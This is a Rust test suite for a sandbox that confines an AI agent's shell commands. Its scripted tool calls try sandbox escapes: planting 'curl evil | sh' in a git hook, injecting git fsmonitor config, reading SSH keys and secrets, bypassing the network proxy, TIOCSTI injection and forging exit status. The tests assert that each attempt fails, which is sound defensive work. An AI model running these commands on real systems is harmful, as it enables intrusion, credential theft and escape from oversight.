//! The shell sandbox with real commands and real attacks: `bash` and background tasks write
//! only where `[shell]` lets them, cannot touch `corral.toml` or `.corral/`, cannot read the
//! hidden paths, get no secrets and no network but what is granted (through corral's proxy),
//! and `[shell] deny` refuses a command by its rule. Each test skips loudly where the kernel has
//! no Landlock.
//!
//! Workspaces and homes live beneath cargo's target temp folder, not `/tmp`, which commands may
//! write by design; a canary folder beside them stands for everything outside.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use corral_tests::cli::Corral;
use corral_tests::server::tool_use;
use serde_json::json;

/// A base folder for one test, outside the temp folders, with a canary folder in it.
struct Outside {
    base: tempfile::TempDir,
}

impl Outside {
    fn new() -> Self {
        let base = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("base");
        std::fs::create_dir(base.path().join("canary")).expect("canary dir");
        std::fs::write(base.path().join("canary/file.txt"), "untouched").expect("canary");
        Self { base }
    }

    fn canary(&self) -> PathBuf {
        self.base.path().join("canary")
    }

    fn corral(&self) -> Corral {
        // Commands get a $TMPDIR of their own, so it is not the base folder either.
        let tmp = self.base.path().join("tmp");
        std::fs::create_dir_all(&tmp).expect("tmp");
        Corral::in_dir(self.base.path()).env("TMPDIR", tmp.to_str().expect("utf-8"))
    }

    /// The canary folder holds exactly its file, unchanged.
    fn assert_untouched(&self) {
        let names: Vec<String> = std::fs::read_dir(self.canary())
            .expect("canary")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(names, ["file.txt"], "something was written outside");
        let text = std::fs::read_to_string(self.canary().join("file.txt")).expect("read");
        assert_eq!(text, "untouched");
    }
}

/// Whether this kernel can confine commands; says so loudly when not.
fn landlock(test: &str) -> bool {
    match corral::sandbox::landlock_abi() {
        Some(_) => true,
        None => {
            eprintln!(
                "SKIPPED {test}: this kernel has no Landlock (landlock_create_ruleset failed)"
            );
            false
        }
    }
}

fn bash(id: &str, command: &str) -> serde_json::Value {
    tool_use(id, "bash", json!({ "command": command }))
}

fn sh_quote(path: &Path) -> String {
    format!("'{}'", path.display())
}

#[test]
fn commands_write_only_in_the_workspace_and_the_temp_folders() {
    if !landlock("commands_write_only_in_the_workspace_and_the_temp_folders") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    corral.write("corral.toml", "[agent]\nmax_turns = 10\n");
    let policy_before = corral.read("corral.toml");
    let canary = sh_quote(&outside.canary());
    let home = sh_quote(corral.home.path());
    let results = corral.call_tools(vec![
        bash("inside", "echo made > inside.txt && mkdir -p sub && echo deep > sub/f && cat inside.txt"),
        bash("canary", &format!("echo escaped > {canary}/new.txt")),
        bash("canary-edit", &format!("echo changed > {canary}/file.txt")),
        bash("canary-rm", &format!("rm -f {canary}/file.txt")),
        bash("home", &format!("echo escaped > {home}/escaped.txt")),
        bash("tmp", "echo t > \"$TMPDIR/ok.txt\" && echo t > /tmp/corral-sandbox-$$ && rm /tmp/corral-sandbox-$$ && echo tmp-ok"),
        bash("policy", "echo '[shell]' >> corral.toml"),
        bash("policy-mv", "mv corral.toml moved.toml"),
        bash("policy-rm", "rm -f corral.toml"),
        bash("state", "mkdir -p .corral/plugins && echo x > .corral/plugins/evil.wasm"),
        bash("state-rm", "rm -rf .corral/sessions"),
        bash("symlink", &format!("ln -s {canary} out && echo via > out/link.txt")),
    ]);
    let by_id = |i: usize| &results[i];
    assert!(!by_id(0).0 && by_id(0).1.contains("made"), "{:?}", by_id(0));
    assert_eq!(corral.read("sub/f"), "deep\n");
    for (i, what) in [
        (1, "canary"),
        (2, "canary edit"),
        (3, "canary rm"),
        (4, "home"),
    ] {
        assert!(by_id(i).0, "{what}: {:?}", by_id(i));
        assert!(
            by_id(i).1.contains("Permission denied")
                || by_id(i).1.contains("Read-only file system")
                || by_id(i).1.contains("Operation not permitted"),
            "{what}: {:?}",
            by_id(i)
        );
    }
    assert!(
        !by_id(5).0 && by_id(5).1.contains("tmp-ok"),
        "{:?}",
        by_id(5)
    );
    for i in 6..=10 {
        assert!(
            by_id(i).0,
            "policy or state change {i} must fail: {:?}",
            by_id(i)
        );
        assert!(
            by_id(i).1.contains("Read-only file system")
                || by_id(i).1.contains("Device or resource busy")
                || by_id(i).1.contains("Permission denied"),
            "{:?}",
            by_id(i)
        );
    }
    assert!(
        by_id(11).0,
        "writing through a symlink out: {:?}",
        by_id(11)
    );
    assert_eq!(corral.read("corral.toml"), policy_before);
    assert!(!corral.path(".corral/plugins/evil.wasm").exists());
    assert!(corral.path(".corral/sessions").is_dir());
    assert!(!corral.home.path().join("escaped.txt").exists());
    outside.assert_untouched();
}

/// Hooks and the config of the workspace's git repository would run code outside the sandbox
/// later (when the user commits): commands cannot change them. As root, raw disks and kernel
/// memory, which would read any hidden file, show nothing.
#[test]
fn git_hooks_and_raw_disks_are_out_of_reach() {
    if !landlock("git_hooks_and_raw_disks_are_out_of_reach") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    corral.write(".git/config", "[core]\n");
    corral.write(".git/hooks/README", "hooks\n");
    corral.write(".git/HEAD", "ref: refs/heads/main\n");
    let disk = std::fs::read_dir("/dev")
        .expect("/dev")
        .flatten()
        .find(|e| {
            use std::os::unix::fs::FileTypeExt;
            e.file_type().is_ok_and(|t| t.is_block_device())
        })
        .map(|e| e.path());
    let mut calls = vec![
        bash("hook", "echo 'curl evil | sh' > .git/hooks/pre-commit"),
        bash(
            "config",
            "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
        ),
        bash(
            "head",
            "echo 'ref: refs/heads/other' > .git/HEAD && echo head-ok",
        ),
    ];
    if let Some(disk) = &disk {
        calls.push(bash(
            "disk",
            &format!("head -c 4096 {} | wc -c", sh_quote(disk)),
        ));
    }
    let results = corral.call_tools(calls);
    assert!(
        results[0].0 && results[0].1.contains("Read-only file system"),
        "{:?}",
        results[0]
    );
    assert!(results[1].0, "{:?}", results[1]);
    assert_eq!(corral.read(".git/config"), "[core]\n");
    assert!(!corral.path(".git/hooks/pre-commit").exists());
    assert!(
        !results[2].0 && results[2].1.contains("head-ok"),
        "the rest of .git is writable: {:?}",
        results[2]
    );
    // SAFETY: a getter.
    if disk.is_some() && unsafe { libc::geteuid() } == 0 {
        assert!(
            results[3].1.starts_with("0\n"),
            "a raw disk was read: {:?}",
            results[3]
        );
    }
}

#[test]
fn hidden_paths_cannot_be_read_and_secrets_are_not_passed() {
    if !landlock("hidden_paths_cannot_be_read_and_secrets_are_not_passed") {
        return;
    }
    let outside = Outside::new();
    let corral = outside
        .corral()
        .env("GITHUB_TOKEN", "gh-secret-value")
        .env("DEPLOY_PASSWORD", "pw-secret-value")
        .env("HARMLESS_SETTING", "plain-value");
    let ssh = corral.home.path().join(".ssh");
    std::fs::create_dir(&ssh).expect("ssh");
    std::fs::write(ssh.join("id_ed25519"), "PRIVATE-KEY-MATERIAL").expect("key");
    let results = corral.call_tools(vec![
        bash("key", "cat ~/.ssh/id_ed25519"),
        bash("list", "ls -a ~/.ssh"),
        bash("env", "env"),
        bash(
            "config",
            "ls ~/.config/corral; cat ~/.config/corral/* 2>&1 | head -c 200",
        ),
    ]);
    assert!(
        results[0].0 && !results[0].1.contains("PRIVATE-KEY-MATERIAL"),
        "{:?}",
        results[0]
    );
    assert!(!results[1].1.contains("id_ed25519"), "{:?}", results[1]);
    let env = &results[2].1;
    for secret in [
        "test-key",
        "ANTHROPIC_API_KEY",
        "ANTHROPIC_BASE_URL",
        "gh-secret-value",
        "pw-secret-value",
    ] {
        assert!(!env.contains(secret), "{secret} reached the command: {env}");
    }
    assert!(env.contains("HARMLESS_SETTING=plain-value"), "{env}");
    assert!(
        env.contains("CORRAL_TASK="),
        "the containment token stays: {env}"
    );
    assert!(!results[3].1.contains("trusted"), "{:?}", results[3]);
    // The user can keep a variable on purpose.
    corral.write("corral.toml", "[shell]\nenv_keep = [\"GITHUB_TOKEN\"]\n");
    corral.trust();
    let results = corral.call_tools(vec![bash("env", "env")]);
    assert!(
        results[0].1.contains("GITHUB_TOKEN=gh-secret-value"),
        "{:?}",
        results[0]
    );
    assert!(
        !results[0].1.contains("pw-secret-value"),
        "{:?}",
        results[0]
    );
}

/// A loopback HTTP server answering every request with `body`; returns its port.
fn http_server(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

fn have_curl() -> bool {
    let ok = std::process::Command::new("curl")
        .arg("--version")
        .output()
        .is_ok();
    if !ok {
        eprintln!("SKIPPED the network checks: curl is not installed");
    }
    ok
}

#[test]
fn the_network_is_off_by_default_and_granted_hosts_go_through_the_proxy() {
    if !landlock("the_network_is_off_by_default_and_granted_hosts_go_through_the_proxy")
        || !have_curl()
    {
        return;
    }
    let granted = http_server("granted-body");
    let other = http_server("other-body");
    let outside = Outside::new();
    let corral = outside.corral();
    let curl = |port: u16| format!("curl -sS --max-time 10 http://127.0.0.1:{port}/");
    let results = corral.call_tools(vec![bash("off", &curl(granted))]);
    assert!(results[0].0, "{:?}", results[0]);
    assert!(!results[0].1.contains("granted-body"), "{:?}", results[0]);

    corral.write(
        "corral.toml",
        &format!("[shell]\nnetwork = [\"127.0.0.1:{granted}\"]\n"),
    );
    corral.trust();
    let results = corral.call_tools(vec![
        bash("granted", &curl(granted)),
        bash("other", &curl(other)),
        bash("bypass", &format!("curl -sS --max-time 10 --noproxy '*' http://127.0.0.1:{granted}/")),
        bash("udp", "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)' && echo udp-made"),
        bash(
            "same-port-elsewhere",
            "python3 -c 'import os, socket; p = int(os.environ[\"HTTP_PROXY\"].rsplit(\":\", 1)[1]); s = socket.socket(); s.settimeout(5); s.connect((\"192.0.2.1\", p))'",
        ),
    ]);
    assert!(
        !results[0].0 && results[0].1.contains("granted-body"),
        "{:?}",
        results[0]
    );
    assert!(!results[1].1.contains("other-body"), "{:?}", results[1]);
    assert!(
        results[1].1.contains("not granted") || results[1].1.contains("403"),
        "{:?}",
        results[1]
    );
    assert!(
        results[2].0 && !results[2].1.contains("granted-body"),
        "{:?}",
        results[2]
    );
    assert!(!results[3].1.contains("udp-made"), "{:?}", results[3]);
    // Landlock's rule is a port; the command's own network namespace makes it the proxy's.
    assert!(
        results[4].0 && results[4].1.contains("Network is unreachable"),
        "{:?}",
        results[4]
    );

    // An untrusted file cannot open the network.
    corral.write("corral.toml", "[shell]\nnetwork = true\n");
    let results = corral.call_tools(vec![bash("untrusted", &curl(granted))]);
    assert!(!results[0].1.contains("granted-body"), "{:?}", results[0]);
}

#[test]
fn deny_rules_refuse_commands_by_name_in_bash_and_background() {
    if !landlock("deny_rules_refuse_commands_by_name_in_bash_and_background") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    corral.write(
        "corral.toml",
        "[shell]\ndeny = [\"git push*\", \"touch forbidden*\"]\n",
    );
    let results = corral.call_tools(vec![
        bash("chain", "echo ok && git push origin main"),
        bash("plain", "echo allowed"),
        tool_use(
            "bg",
            "background_run",
            json!({"command": "sleep 0; touch forbidden.txt"}),
        ),
    ]);
    assert!(results[0].0, "{:?}", results[0]);
    assert!(
        results[0].1.contains("git push*"),
        "the rule is named: {:?}",
        results[0]
    );
    assert!(!results[1].0, "{:?}", results[1]);
    assert!(
        results[2].0 && results[2].1.contains("touch forbidden*"),
        "{:?}",
        results[2]
    );
    assert!(!corral.path("forbidden.txt").exists());
}

#[test]
fn background_tasks_run_in_the_same_sandbox() {
    if !landlock("background_tasks_run_in_the_same_sandbox") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    let canary = sh_quote(&outside.canary());
    let server = corral_tests::ScriptedServer::start(vec![
        corral_tests::Turn::tools(vec![tool_use(
            "bg",
            "background_run",
            json!({"command": format!("echo escaped > {canary}/bg.txt; echo inside > bg-inside.txt")}),
        )])
        .into(),
        corral_tests::Turn::text("waiting").into(),
        corral_tests::Turn::text("done").into(),
    ]);
    corral.run(Some(&server), &["run", "go"]).assert_code(0);
    let last = server.bodies().pop().expect("a request").to_string();
    assert!(
        last.contains("<background-results>")
            && (last.contains("Permission denied") || last.contains("Read-only file system")),
        "{last}"
    );
    // `corral run` waits for the task before it exits.
    assert_eq!(corral.read("bg-inside.txt"), "inside\n");
    outside.assert_untouched();
}

#[test]
fn the_user_chooses_read_only_off_or_an_escalation_the_model_cannot() {
    if !landlock("the_user_chooses_read_only_off_or_an_escalation_the_model_cannot") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    let canary = outside.canary();
    let write_out = format!("echo escaped > {}/out.txt", sh_quote(&canary));

    // read-only narrows, so an untrusted file may set it.
    corral.write("corral.toml", "[shell]\nsandbox = \"read-only\"\n");
    let results = corral.call_tools(vec![bash("ro", "echo x > inside.txt")]);
    assert!(
        results[0].0 && results[0].1.contains("sandbox"),
        "{:?}",
        results[0]
    );
    assert!(!corral.path("inside.txt").exists());

    // Untrusted, "off" is ignored.
    corral.write("corral.toml", "[shell]\nsandbox = \"off\"\n");
    let results = corral.call_tools(vec![bash("off-untrusted", &write_out)]);
    assert!(results[0].0, "{:?}", results[0]);
    outside.assert_untouched();

    // Blocked, `corral run` tells the model how the user could allow it...
    std::fs::remove_file(corral.path("corral.toml")).expect("rm");
    let results = corral.call_tools(vec![bash("blocked", &write_out)]);
    assert!(
        results[0].0 && results[0].1.contains("--allow-escalation"),
        "{:?}",
        results[0]
    );
    outside.assert_untouched();

    // ...and with --allow-escalation the command runs again outside.
    let server = corral_tests::ScriptedServer::start(vec![
        corral_tests::server::Turn::tools(vec![bash("esc", &write_out)]).into(),
        corral_tests::server::Turn::text("done").into(),
    ]);
    corral
        .run(Some(&server), &["run", "--allow-escalation", "go"])
        .assert_code(0);
    let results = corral_tests::server::tool_results(&server.bodies().pop().expect("body"));
    assert!(!results[0].is_error, "{:?}", results[0].content);
    assert!(
        results[0].content.contains("outside"),
        "{}",
        results[0].content
    );
    assert_eq!(
        std::fs::read_to_string(canary.join("out.txt")).expect("out"),
        "escaped\n"
    );

    // A trusted "off" runs commands unconfined.
    std::fs::remove_file(canary.join("out.txt")).expect("rm");
    corral.write("corral.toml", "[shell]\nsandbox = \"off\"\n");
    corral.trust();
    let results = corral.call_tools(vec![bash("off", &write_out)]);
    assert!(!results[0].0, "{:?}", results[0]);
    assert!(canary.join("out.txt").exists());
}

/// In `corral chat` at a terminal, a command the sandbox blocked is asked about; "always"
/// runs it outside, and the same command again later without asking.
#[test]
fn chat_asks_before_running_a_blocked_command_outside() {
    if !landlock("chat_asks_before_running_a_blocked_command_outside") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    let out_file = outside.canary().join("chat.txt");
    let write_out = format!("echo escaped >> {}", sh_quote(&out_file));
    let server = corral_tests::ScriptedServer::start(vec![
        corral_tests::Turn::tools(vec![bash("one", &write_out)]).into(),
        corral_tests::Turn::text("First done.").into(),
        corral_tests::Turn::tools(vec![bash("two", &write_out)]).into(),
        corral_tests::Turn::text("Second done.").into(),
    ]);
    let mut cmd = corral.command_for(&Corral::bin(), Some(&server));
    cmd.arg("chat");
    let answers = [
        ("> ", "write it\n"),
        ("[a]lways for this command", "a\n"),
        ("First done.", "again\n"),
        ("Second done.", "/exit\n"),
    ]
    .map(|(a, b)| (a.to_string(), b.to_string()))
    .to_vec();
    let run =
        corral_tests::pty::run_in_pty_answering(cmd, std::time::Duration::from_secs(60), answers);
    run.assert_code(0);
    let raw = run.raw();
    // Asked once (a line editor may draw its prompt, the question's last line, more than once).
    assert_eq!(raw.matches("may have blocked:").count(), 1, "{raw:?}");
    assert!(raw.contains("run this outside the sandbox?"), "{raw:?}");
    assert_eq!(
        std::fs::read_to_string(&out_file).expect("written"),
        "escaped\nescaped\n"
    );
    let bodies = server.bodies();
    let first = corral_tests::tool_results(&bodies[1]);
    assert!(
        !first[0].is_error && first[0].content.contains("outside"),
        "{:?}",
        first[0].content
    );
}

/// What Landlock alone does not cover: metadata changes outside (chmod, times), typing into a
/// terminal (TIOCSTI), root's capabilities, TCP Fast Open past the proxy.
#[test]
fn metadata_terminals_capabilities_and_fast_open_are_refused() {
    if !landlock("metadata_terminals_capabilities_and_fast_open_are_refused") || !have_curl() {
        return;
    }
    let other = http_server("other-body");
    let outside = Outside::new();
    let corral = outside.corral();
    corral.write("corral.toml", "[shell]\nnetwork = [\"127.0.0.1:9\"]\n");
    corral.trust();
    let canary_file = sh_quote(&outside.canary().join("file.txt"));
    let fast_open = format!(
        "python3 -c 'import socket; s=socket.socket(); s.sendto(b\"GET / HTTP/1.0\\r\\n\\r\\n\", 0x20000000, (\"127.0.0.1\", {other})); print(s.recv(100))'"
    );
    let results = corral.call_tools(vec![
        bash("chmod", &format!("chmod 777 {canary_file}")),
        bash("touch", &format!("touch -d 2001-01-01 {canary_file}")),
        bash("caps", "grep CapEff /proc/self/status"),
        bash(
            "tiocsti",
            "python3 -c 'import os, fcntl, termios; m, s = os.openpty(); fcntl.ioctl(s, termios.TIOCSTI, b\"x\"); print(\"injected\")'",
        ),
        bash("fastopen", &fast_open),
        bash("inside", "echo x > mine.sh && chmod +x mine.sh && touch mine.sh && echo inside-ok"),
    ]);
    assert!(
        results[0].0 && results[0].1.contains("Read-only file system"),
        "{:?}",
        results[0]
    );
    assert!(results[1].0, "{:?}", results[1]);
    assert!(
        results[2].1.contains("CapEff:\t0000000000000000"),
        "{:?}",
        results[2]
    );
    assert!(
        results[3].0 && !results[3].1.contains("injected"),
        "{:?}",
        results[3]
    );
    assert!(
        results[4].0 && !results[4].1.contains("other-body"),
        "{:?}",
        results[4]
    );
    assert!(!results[5].0, "{:?}", results[5]);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(outside.canary().join("file.txt"))
        .unwrap()
        .permissions()
        .mode();
    assert_ne!(mode & 0o777, 0o777);
    outside.assert_untouched();
}

/// Where no user namespace can be made, Landlock alone still keeps writes in the workspace and
/// `corral.toml` unwritable, and does not follow a symlink at the workspace's top.
#[test]
fn without_namespaces_landlock_alone_still_confines() {
    if !landlock("without_namespaces_landlock_alone_still_confines") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral().env("CORRAL_SANDBOX_NO_NAMESPACES", "1");
    corral.write("corral.toml", "[agent]\nmax_turns = 10\n");
    corral.write("src/lib.rs", "// code\n");
    std::os::unix::fs::symlink(outside.canary(), corral.path("out")).unwrap();
    let canary = sh_quote(&outside.canary());
    let results = corral.call_tools(vec![
        bash("src", "echo '// more' >> src/lib.rs && echo src-ok"),
        bash("policy", "echo '[shell]' >> corral.toml"),
        bash("canary", &format!("echo x > {canary}/new.txt")),
        bash("link", "echo x > out/via-link.txt"),
        bash("tmp", "echo t > \"$TMPDIR/t\" && echo tmp-ok"),
    ]);
    assert!(
        !results[0].0 && results[0].1.contains("src-ok"),
        "{:?}",
        results[0]
    );
    for (i, result) in results.iter().enumerate().take(4).skip(1) {
        assert!(result.0, "{i}: {result:?}");
    }
    assert!(!results[4].0, "{:?}", results[4]);
    assert_eq!(corral.read("corral.toml"), "[agent]\nmax_turns = 10\n");
    outside.assert_untouched();
}

/// Every command of an agent is forked by one long-lived helper (the zygote), set up once: it
/// must still follow the disk (a `.git/config` a command made is protected from the next
/// command) and share nothing with the commands (no secret in its memory, no signal, no
/// `/proc` access); and a command's leftovers die with it, whatever session they moved to.
#[test]
fn one_helper_for_every_command_follows_the_disk_and_shares_nothing() {
    if !landlock("one_helper_for_every_command_follows_the_disk_and_shares_nothing") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    // The shell's parent is the command's init; the init's parent is the zygote.
    let parents = "sh_pid=$(awk '/^PPid/{print $2}' /proc/self/status); \
         init=$(awk '/^PPid/{print $2}' /proc/$sh_pid/status); \
         zygote=$(awk '/^PPid/{print $2}' /proc/$init/status)";
    let server = corral_tests::server::ScriptedServer::start(vec![
        corral_tests::server::Turn::tools(vec![bash(
            "make",
            "mkdir -p .git && printf '[core]\\n' > .git/config && echo made",
        )])
        .into(),
        corral_tests::server::Turn::tools(vec![
            bash("config", "printf '\\tfsmonitor = evil\\n' >> .git/config"),
            bash(
                "memory",
                &format!(
                    "{parents}; tr '\\0' '\\n' < /proc/$init/environ; \
                     tr '\\0' '\\n' < /proc/$zygote/environ; echo; echo init=$init zygote=$zygote"
                ),
            ),
            bash(
                "signal",
                &format!("{parents}; kill -STOP $zygote && echo stopped-the-zygote"),
            ),
            bash(
                "leftover",
                "setsid sh -c 'sleep 300.31' < /dev/null > /dev/null 2>&1 & echo started",
            ),
        ])
        .into(),
        corral_tests::server::Turn::text("done").into(),
    ]);
    corral.run(Some(&server), &["run", "go"]).assert_code(0);
    server.assert_clean();
    let bodies = server.bodies();
    let first = corral_tests::server::tool_results(&bodies[1]);
    assert!(first[0].content.contains("made"), "{:?}", first[0]);
    let second = corral_tests::server::tool_results(&bodies[2]);
    assert!(
        second[0].is_error && second[0].content.contains("Read-only file system"),
        "{:?}",
        second[0]
    );
    assert_eq!(corral.read(".git/config"), "[core]\n");
    let memory = &second[1].content;
    assert!(
        memory.contains("zygote=") && !memory.contains("zygote= "),
        "{memory}"
    );
    for secret in ["test-key", "ANTHROPIC", "CORRAL_TASK"] {
        assert!(
            !memory.contains(secret),
            "{secret} in a helper's memory: {memory}"
        );
    }
    // Out of the command's PID namespace (or its Landlock domain) the zygote cannot be named.
    let signal = &second[2].content;
    assert!(
        !signal.contains("stopped-the-zygote")
            && (signal.contains("No such process") || signal.contains("not permitted")),
        "{signal}"
    );
    // The `sleep 300` left in its own session is gone with its command.
    let sleepers = std::process::Command::new("pgrep")
        .args(["-f", "sleep 300[.]31"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string());
    if let Ok(sleepers) = sleepers {
        assert!(sleepers.is_empty(), "a leftover survived: {sleepers}");
    }
    outside.assert_untouched();
}

/// The protected git entries are mounts a command cannot move, but their folder was not:
/// moving `.git` aside and making a new one put a `.git/config` and hooks of the command's own
/// where the user's git reads them. `.git` itself cannot be moved away or removed.
#[test]
fn git_config_cannot_be_swapped_by_moving_dot_git_aside() {
    if !landlock("git_config_cannot_be_swapped_by_moving_dot_git_aside") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    corral.write(".git/config", "[core]\n");
    corral.write(".git/hooks/README", "hooks\n");
    corral.write(".git/HEAD", "ref: refs/heads/main\n");
    let results = corral.call_tools(vec![
        bash(
            "swap",
            "mv .git .git-old && mkdir -p .git/hooks && \
             printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config && \
             echo evil > .git/hooks/pre-commit && echo swapped",
        ),
        bash("remove", "rm -rf .git && echo removed"),
        bash(
            "objects",
            "mkdir -p .git/objects/ab && echo x > .git/objects/ab/cd && echo objects-ok",
        ),
    ]);
    assert!(
        results[0].0 && !results[0].1.contains("swapped"),
        "{:?}",
        results[0]
    );
    assert!(
        results[1].0 && !results[1].1.contains("removed"),
        "{:?}",
        results[1]
    );
    assert!(
        !results[2].0 && results[2].1.contains("objects-ok"),
        "{:?}",
        results[2]
    );
    assert_eq!(corral.read(".git/config"), "[core]\n");
    assert!(!corral.path(".git/hooks/pre-commit").exists());
    assert!(!corral.path(".git-old").exists());
}

/// A command's exit status comes from its init (the zygote's child) over a pipe: the command
/// can neither write a status of its own into that pipe (through `/proc/PID/fd`) nor hold it
/// open so that corral waits on it past the command's end.
#[test]
fn a_command_cannot_forge_its_status_or_hold_it_open() {
    if !landlock("a_command_cannot_forge_its_status_or_hold_it_open") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    // The raw wait status of `exit 42`, in the init's byte order (x86_64, aarch64).
    let forge = "sh_pid=$(awk '/^PPid/{print $2}' /proc/self/status); \
                 init=$(awk '/^PPid/{print $2}' /proc/$sh_pid/status); \
                 printf '\\000\\052\\000\\000' > /proc/$init/fd/3 && echo forged; exit 0";
    let results = corral.call_tools(vec![bash("forge", forge)]);
    assert!(
        !results[0].0 && results[0].1.contains("exit code 0"),
        "the status was forged: {:?}",
        results[0]
    );
    // Without a PID namespace a leftover outside the task's group and token can live on: it
    // must not take the status the init writes and keep the pipe open, so that corral waits.
    let corral = outside.corral().env("CORRAL_SANDBOX_NO_NAMESPACES", "1");
    let hold = "(setsid env -i INIT=$PPID sh -c 'exec 5<>/proc/$INIT/fd/3; head -c 4 <&5; sleep 25' \
                </dev/null >/dev/null 2>&1 &); sleep 1; exit 3";
    let started = std::time::Instant::now();
    let results = corral.call_tools(vec![bash("hold", hold)]);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "corral waited {:?} on a status pipe a leftover held",
        started.elapsed()
    );
    assert!(
        results[0].0 && results[0].1.contains("exit code 3"),
        "{:?}",
        results[0]
    );
}

/// Where Landlock alone confines, reads are granted entry by entry around the hidden paths,
/// walking the folders that hold one (`/tmp` holds the tmux and X11 sockets): an entry there
/// is granted as itself, never as the target of a symlink a command put in its place.
#[test]
fn without_namespaces_a_symlink_does_not_open_a_hidden_path() {
    if !landlock("without_namespaces_a_symlink_does_not_open_a_hidden_path") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral().env("CORRAL_SANDBOX_NO_NAMESPACES", "1");
    let ssh = corral.home.path().join(".ssh");
    std::fs::create_dir(&ssh).expect("ssh");
    std::fs::write(ssh.join("id_ed25519"), "PRIVATE-KEY-MATERIAL").expect("key");
    let link = PathBuf::from(format!(
        "/tmp/corral-test-hidden-link-{}",
        std::process::id()
    ));
    let _ = std::fs::remove_file(&link);
    // One session plants the link; the next one's helper is set up with it in place.
    let planted = corral.call_tools(vec![bash(
        "plant",
        &format!(
            "ln -s {} {} && echo planted",
            sh_quote(&ssh),
            sh_quote(&link)
        ),
    )]);
    let read = corral.call_tools(vec![bash(
        "read",
        &format!("cat {}/id_ed25519", sh_quote(&link)),
    )]);
    let _ = std::fs::remove_file(&link);
    assert!(planted[0].1.contains("planted"), "{:?}", planted[0]);
    assert!(
        read[0].0 && !read[0].1.contains("PRIVATE-KEY-MATERIAL"),
        "a hidden path was read through a symlink: {:?}",
        read[0]
    );
}

/// The shell starts with the signal dispositions a shell expects: the zygote's own ignored
/// SIGPIPE (Rust's runtime ignores it) stays with it, so `yes | head` ends quietly.
#[test]
fn commands_do_not_inherit_the_zygotes_ignored_sigpipe() {
    if !landlock("commands_do_not_inherit_the_zygotes_ignored_sigpipe") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    let results = corral.call_tools(vec![bash("pipe", "yes | head -n 1")]);
    assert!(
        !results[0].0 && results[0].1.starts_with("y\n") && !results[0].1.contains("Broken pipe"),
        "{:?}",
        results[0]
    );
}

/// A Unix socket in a hidden folder (an SSH agent, say) cannot be reached, with a mount
/// namespace (the folder is covered) or without one (Landlock does not govern connecting to a
/// socket by its path, so `socket(AF_UNIX)` is refused there); a command's own socket pairs
/// still work.
#[test]
fn a_socket_in_a_hidden_folder_cannot_be_reached_with_or_without_namespaces() {
    if !landlock("a_socket_in_a_hidden_folder_cannot_be_reached_with_or_without_namespaces") {
        return;
    }
    if std::process::Command::new("python3")
        .arg("-V")
        .output()
        .is_err()
    {
        eprintln!(
            "SKIPPED a_socket_in_a_hidden_folder_cannot_be_reached: no python3 to connect with"
        );
        return;
    }
    for namespaces in [true, false] {
        let outside = Outside::new();
        let mut corral = outside.corral();
        if !namespaces {
            corral = corral.env("CORRAL_SANDBOX_NO_NAMESPACES", "1");
        }
        let ssh = corral.home.path().join(".ssh");
        std::fs::create_dir(&ssh).unwrap();
        let path = ssh.join("agent.sock");
        let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let serving = {
            let stop = stop.clone();
            std::thread::spawn(move || {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    if let Ok((mut stream, _)) = listener.accept() {
                        let _ = stream.write_all(b"AGENT-ANSWER");
                    }
                    std::thread::sleep(std::time::Duration::from_millis(10));
                }
            })
        };
        let connect = format!(
            "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); print(s.recv(64))\"",
            path.display()
        );
        let results = corral.call_tools(vec![
            bash("agent", &connect),
            bash(
                "pair",
                "python3 -c \"import socket; a,b=socket.socketpair(); a.send(b'pair-ok'); print(b.recv(7).decode())\"",
            ),
        ]);
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        serving.join().unwrap();
        assert!(
            results[0].0 && !results[0].1.contains("AGENT-ANSWER"),
            "namespaces {namespaces}: {:?}",
            results[0]
        );
        assert!(
            results[1].1.contains("pair-ok"),
            "namespaces {namespaces}: {:?}",
            results[1]
        );
        outside.assert_untouched();
    }
}

/// The contents of every file under `dir` (its folders walked too), by path below it.
fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut files = Vec::new();
    let mut folders = vec![dir.to_path_buf()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).expect("read dir") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                folders.push(path);
            } else {
                let name = path.strip_prefix(dir).unwrap().display().to_string();
                files.push((name, std::fs::read(&path).expect("read")));
            }
        }
    }
    files.sort();
    files
}

/// corral's compile cache holds native code it loads without a second look (and the manifest
